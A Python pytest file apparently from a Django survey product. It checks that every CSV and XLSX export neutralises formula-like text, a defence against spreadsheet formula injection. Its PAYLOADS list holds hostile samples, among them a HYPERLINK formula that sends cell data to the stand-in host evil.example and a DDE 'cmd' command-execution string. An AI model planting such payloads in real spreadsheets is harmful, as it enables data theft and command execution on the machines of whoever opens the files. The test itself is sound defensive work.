"""No CSV or XLSX file the product writes carries a live formula (issue 14).

Text a respondent, a lead or a coordinator typed (a comment, a text answer, an evidence source,
an authority's or a round's name) that starts like a formula is put everywhere in the demo; then
every CSV and XLSX file the product offers is downloaded through its real view (research exports,
the answers file, every chart download of the dashboard pages, the XLSForm of an edition) or
written by its real command (``index build`` and ``index sensitivity``), and every cell is read
back: no CSV cell starts like a formula, no XLSX cell is a formula and every text that could be
read as one is quote-prefixed, and the typed text comes back visibly (behind a quote in CSV,
unchanged in XLSX). A second test walks the source tree: only ``saferspaces.core.spreadsheets``
may make a CSV writer or an openpyxl workbook, so a future writer cannot forget the guard.
"""

from __future__ import annotations

import ast
import csv
import html
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from conftest import REPO_ROOT

SRC = REPO_ROOT / "src" / "saferspaces"
GUARD_MODULE = SRC / "core" / "spreadsheets.py"

# every way a spreadsheet may start a formula, also behind white space and in full width
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000-2+3",
    "\uff1d1+1",
)
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def _live(text: str) -> bool:
    """Whether a spreadsheet could run ``text`` as a formula (the test's own reading of OWASP)."""
    if text[:1] in ("\t", "\r"):
        return True
    start = text.lstrip(" \t\r\n\u00a0\u3000\u200b\ufeff")
    first = start[:1]
    return bool(first) and first in "=+-@\uff1d\uff0b\uff0d\uff20" and not _NUMBER.fullmatch(text)


# --- the source tree ---------------------------------------------------------------------------

_WRITER_NAMES = {"writer", "DictWriter"}  # of the csv module
_BOOK_NAMES = {"Workbook", "WriteOnlyCell"}  # of openpyxl
_ARROW_NAMES = {"write_csv", "CSVWriter"}  # of pyarrow.csv


def _writers_in(path: Path, root: Path = REPO_ROOT) -> list[str]:
    """Places in one module that write CSV or XLSX without the guard module."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    for node in ast.walk(tree):
        where = f"{path.relative_to(root)}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.Attribute):
            owner = node.value.id if isinstance(node.value, ast.Name) else ""
            if owner == "csv" and node.attr in _WRITER_NAMES:
                found.append(f"{where} csv.{node.attr}")
            if owner == "openpyxl" and node.attr in _BOOK_NAMES:
                found.append(f"{where} openpyxl.{node.attr}")
            if node.attr in ("to_csv", "to_excel"):
                found.append(f"{where} .{node.attr}()")
            if node.attr in _ARROW_NAMES:
                found.append(f"{where} pyarrow .{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = {a.name for a in node.names}
            if node.module == "csv" and names & _WRITER_NAMES:
                found.append(f"{where} from csv import {', '.join(sorted(names))}")
            if node.module.split(".")[0] == "openpyxl" and names & _BOOK_NAMES:
                found.append(f"{where} from {node.module} import {', '.join(sorted(names))}")
            if node.module == "pyarrow.csv" and names & _ARROW_NAMES:
                found.append(f"{where} from {node.module} import {', '.join(sorted(names))}")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in ("xlsxwriter", "pyexcel", "odf", "xlwt"):
                    found.append(f"{where} import {alias.name}")
    return found


def test_only_the_spreadsheets_module_writes_csv_or_xlsx() -> None:
    modules = sorted(p for p in SRC.rglob("*.py") if p != GUARD_MODULE)
    assert len(modules) > 100  # the walk really saw the product
    offending = [hit for path in modules for hit in _writers_in(path)]
    assert offending == [], (
        "write CSV and XLSX through saferspaces.core.spreadsheets (csv_writer_open, "
        "workbook_create) so that no text becomes a formula:\n" + "\n".join(offending)
    )
    assert _writers_in(GUARD_MODULE)  # the walk recognises a writer when there is one


def test_the_walk_finds_a_writer_written_in_any_way(tmp_path: Path) -> None:
    sample = tmp_path / "sample.py"
    sample.write_text(
        "import csv\nfrom csv import DictWriter\nimport openpyxl\n"
        "from openpyxl import Workbook\nfrom openpyxl.cell import WriteOnlyCell\n"
        "w = csv.writer(f)\nb = openpyxl.Workbook()\nframe.to_csv('x.csv')\nimport xlsxwriter\n"
        "from pyarrow.csv import write_csv\npyarrow.csv.CSVWriter(sink, schema)\n",
        encoding="utf-8",
    )
    hits = _writers_in(sample, root=tmp_path)
    assert [h.split(" ", 1)[0] for h in hits].count("sample.py:6") == 1
    assert len(hits) == 9, hits


# --- every file, through the real views and commands --------------------------------------------


def _body(response: Any) -> bytes:
    assert response.status_code == 200, (response.status_code, getattr(response, "url", ""))
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _csv_rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _csv_cells(data: bytes, delimiter: str = ",") -> list[str]:
    return [c for row in _csv_rows(data, delimiter) for c in row]


@dataclass(frozen=True)
class XlsxCell:
    where: str
    value: Any
    data_type: str
    quote_prefix: bool


def _xlsx_cells(data: bytes) -> Iterator[XlsxCell]:
    wb = load_workbook(io.BytesIO(data), read_only=True)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    prefix = bool(c.has_style and c.style_array.quotePrefix)
                    yield XlsxCell(f"{ws.title}!{c.coordinate}", c.value, c.data_type, prefix)
    wb.close()


class Files:
    """What every downloaded file held, by writer."""

    def __init__(self) -> None:
        self.csv: dict[str, list[str]] = {}
        self.xlsx: dict[str, list[XlsxCell]] = {}

    def add(self, name: str, data: bytes, *, delimiter: str = ",") -> None:
        if name.endswith(".xlsx") or name.endswith("format=xlsx"):
            self.xlsx[name] = list(_xlsx_cells(data))
        elif name.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                for member in z.namelist():
                    self.add(f"{name}/{member}", z.read(member))
        else:
            self.csv[name] = _csv_cells(data, delimiter)


def _payload_everywhere(demo: Any) -> dict[str, Any]:
    """Formula-like text in every free-text field a writer can read; returns the places used."""
    from saferspaces.assessments.models import Answer, Assessment, Evidence, Round
    from saferspaces.authorities.models import Authority
    from saferspaces.core.framework.model import Indicator
    from saferspaces.dashboard.models import PeerSharing
    from saferspaces.demo.assessments import ROUND_TITLES
    from saferspaces.demo.generator import PERSONA_AUTHORITY
    from saferspaces.frameworks.selectors import edition_parsed

    persona = Authority.objects.get(name=PERSONA_AUTHORITY)
    round_ = Round.objects.get(title=ROUND_TITLES[1])
    pilot = Round.objects.get(title=ROUND_TITLES[0])
    own = Assessment.objects.get(round=round_, authority=persona)
    others = list(
        Assessment.objects.filter(round=round_).exclude(authority=persona).order_by("pk")
    )[: len(PAYLOADS) - 1]
    named = [own, *others]
    for i, (assessment, payload) in enumerate(zip(named, PAYLOADS, strict=True)):
        authority = assessment.authority
        authority.name = f"{payload} {i}"
        authority.save(update_fields=["name"])
        PeerSharing.objects.update_or_create(
            authority=authority, defaults={"publish_results": True}
        )
        answers = list(Answer.objects.filter(assessment=assessment).order_by("code"))
        for j, answer in enumerate(answers[: len(PAYLOADS)]):
            answer.comment = PAYLOADS[(i + j) % len(PAYLOADS)]
            answer.save(update_fields=["comment"])
    round_.title = PAYLOADS[0]
    round_.save(update_fields=["title"])
    pilot.title = PAYLOADS[3]
    pilot.save(update_fields=["title"])
    edition = edition_parsed(row=own.edition)
    text_codes = [
        q.code
        for q in [*edition.checklist, *(i for _, i in edition.indicators())]
        if q.answer.type == "text"
    ]
    assert text_codes, "the edition has text questions"
    for k, code in enumerate(text_codes):
        Answer.objects.update_or_create(
            assessment=own,
            code=code,
            defaults={"status": "answered", "value": PAYLOADS[k % len(PAYLOADS)], "version": 1},
        )
    scored = [i.code for _, i in edition.indicators() if isinstance(i, Indicator)]
    for k, payload in enumerate(PAYLOADS):
        Evidence.objects.create(
            assessment=own, code=scored[k], source_name=payload, url="", year=2025
        )
    return {"persona": persona, "round": round_, "pilot": pilot, "own": own}


def _edition_with_payloads() -> Any:
    """The bundled edition under a new id, with formula-like question and help texts."""
    import json

    from saferspaces.frameworks.services import framework_edition_upload

    text = (SRC / "frameworks" / "editions" / "ssf-2026.1.yaml").read_text(encoding="utf-8")
    text = text.replace("  id: ssf-2026.1\n", "  id: ssf-2099.1\n", 1)
    for old, payload in (
        ('en: "Share of residents who are satisfied to live in their city"', PAYLOADS[0]),
        ('fr: "Part des habitants satisfaits de vivre dans leur ville"', PAYLOADS[4]),
    ):
        assert old in text
        text = text.replace(old, old[:4] + json.dumps(payload), 1)
    return framework_edition_upload(user=None, filename="f.yaml", content=text.encode())


def _chart_links(page: str) -> list[str]:
    return sorted(
        {html.unescape(u) for u in re.findall(r'href="([^"]+format=(?:csv|xlsx)[^"]*)"', page)}
    )


@pytest.mark.django_db
def test_no_file_of_the_product_holds_a_live_formula(
    demo: Any, client_as: Any, tmp_path: Path, settings: Any
) -> None:
    from django.core.management import call_command

    settings.MEDIA_ROOT = tmp_path / "media"  # export files made by jobs stay out of the checkout

    placed = _payload_everywhere(demo)
    files = Files()
    coordinator, lead, anonymous = (
        client_as("coordinator"),
        client_as("lead"),
        client_as("anonymous"),
    )

    # the research exports: every file the page offers (the pilot round's codebook has its name)
    rnd = placed["round"]
    page = coordinator.get(f"/rounds/{rnd.pk}/exports/").content.decode()
    names = sorted(set(re.findall(r"exports/([a-z]+\.(?:csv|xlsx|zip))", page)))
    assert {"answers.csv", "background.csv", "idata.csv", "all.xlsx", "all.zip"} <= set(names)
    for name in names:
        if not name.endswith(".csv"):  # made by a job (run at once by the test suite's queue)
            assert coordinator.post(f"/rounds/{rnd.pk}/exports/{name}/prepare/").status_code == 302
        data = _body(coordinator.get(f"/rounds/{rnd.pk}/exports/{name}"))
        files.add(f"round {rnd.pk} {name}", data)
        (tmp_path / f"{rnd.pk}-{name}").write_bytes(data)
    pilot = placed["pilot"]
    files.add("pilot codebook", _body(coordinator.get(f"/rounds/{pilot.pk}/exports/codebook.csv")))

    # the answers file of the persona's assessment, both formats
    for fmt in ("csv", "xlsx"):
        files.add(
            f"answers template .{fmt}",
            _body(lead.get(f"/assessments/{placed['own'].pk}/answers.{fmt}")),
        )

    # every chart download on the dashboard pages
    pages = [
        (lead, f"/authorities/{placed['persona'].slug}/dashboard/"),
        (lead, f"/assessments/{placed['own'].pk}/peers/"),
        (coordinator, f"/rounds/{placed['round'].pk}/dashboard/"),
        (coordinator, f"/rounds/{placed['pilot'].pk}/dashboard/"),
        (anonymous, "/results/"),
    ]
    links = 0
    for who, url in pages:
        page = who.get(url)
        assert page.status_code == 200, url
        for link in _chart_links(page.content.decode()):
            links += 1
            files.add(f"chart {link}", _body(who.get(link)))
    assert links >= 10, links

    # the XLSForm of an edition whose texts look like formulas
    row = _edition_with_payloads()
    files.add("xlsform.xlsx", _body(coordinator.get(f"/frameworks/{row.edition_id}/xlsform/")))

    # the index command on the exported iData/iMeta, names typed raw again (as a researcher's
    # cleaned file would have them): uName goes to the results file
    rid = placed["round"].pk
    idata = _csv_rows((tmp_path / f"{rid}-idata.csv").read_bytes())
    name_at = idata[0].index("uName")
    for row in idata[1:]:
        row[name_at] = row[name_at].removeprefix("'")
    raw = io.StringIO()
    csv.writer(raw).writerows(idata)
    (tmp_path / "idata-raw.csv").write_text(raw.getvalue(), encoding="utf-8")
    assert any(r[name_at] == f"{PAYLOADS[0]} 0" for r in idata[1:])
    call_command(
        "index",
        "build",
        data=tmp_path / "idata-raw.csv",
        meta=tmp_path / f"{rid}-imeta.csv",
        pipeline=REPO_ROOT / "examples" / "pipelines" / "coinr_minmax_amean.yaml",
        out=tmp_path / "results.csv",
        stdout=io.StringIO(),
    )
    files.add("index build", (tmp_path / "results.csv").read_bytes())

    _assert_no_live_formula(files)
    _assert_payloads_come_back(files)


def _assert_no_live_formula(files: Files) -> None:
    assert files.csv and files.xlsx
    for name, cells in files.csv.items():
        live = [c for c in cells if _live(c)]
        assert live == [], f"{name}: CSV cells that a spreadsheet would run: {live[:5]}"
    for name, cells in files.xlsx.items():
        formulas = [c.where for c in cells if c.data_type == "f"]
        assert formulas == [], f"{name}: formula cells {formulas[:5]}"
        unguarded = [
            c.where
            for c in cells
            if isinstance(c.value, str) and _live(c.value) and not c.quote_prefix
        ]
        assert unguarded == [], f"{name}: text cells without the quote prefix {unguarded[:5]}"


def _assert_payloads_come_back(files: Files) -> None:
    """Each payload is in the files as typed: behind a quote in CSV, unchanged in XLSX."""
    research_csv = [c for n, cells in files.csv.items() if n.startswith("round") for c in cells]
    research_xlsx = [
        c.value for n, cells in files.xlsx.items() if n.startswith("round") for c in cells
    ]
    template_csv = files.csv["answers template .csv"]
    template_xlsx = [c.value for c in files.xlsx["answers template .xlsx"]]
    chart_csv = [c for n, cells in files.csv.items() if n.startswith("chart") for c in cells]
    for payload in PAYLOADS:
        quoted = "'" + payload
        stored = payload.replace("\r", "\n")  # XML keeps no carriage return: a line break
        assert any(c.startswith(quoted) for c in research_csv), payload
        assert stored in research_xlsx, payload  # a comment, unchanged
        assert quoted in template_csv, payload
        assert stored in template_xlsx, payload
        assert any(c.startswith(quoted) for c in chart_csv), payload  # the authority on the map
    assert any(c.startswith("'" + PAYLOADS[0]) for c in files.csv["index build"])
    assert "'" + PAYLOADS[3] in files.csv["pilot codebook"]  # the round's title
    xlsform = [c.value for c in files.xlsx["xlsform.xlsx"]]
    assert PAYLOADS[0] in xlsform and PAYLOADS[4] in xlsform
